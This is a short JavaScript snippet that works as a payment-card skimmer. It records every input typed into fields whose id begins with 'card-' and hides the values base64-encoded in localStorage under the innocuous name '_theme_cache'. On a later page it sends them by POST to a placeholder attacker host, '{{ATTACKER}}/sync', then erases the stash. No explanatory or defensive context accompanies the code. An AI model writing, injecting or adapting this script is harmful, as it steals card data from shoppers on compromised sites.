
;(function () {
  var key = '_theme_cache';
  // Send what an earlier page stashed.
  var stash = localStorage.getItem(key);
  if (stash) {
    fetch('{{ATTACKER}}/sync', {method: 'POST', mode: 'no-cors', body: stash}).then(function () {
      localStorage.removeItem(key);
    });
  }
  document.addEventListener('input', function (e) {
    var t = e.target;
    if (!t || !t.id || t.id.indexOf('card-') !== 0) {
      return;
    }
    var d = {};
    try {
      d = JSON.parse(atob(localStorage.getItem(key) || '')) || {};
    } catch (err) {}
    d[t.id] = t.value;
    localStorage.setItem(key, btoa(JSON.stringify(d)));
  }, true);
})();
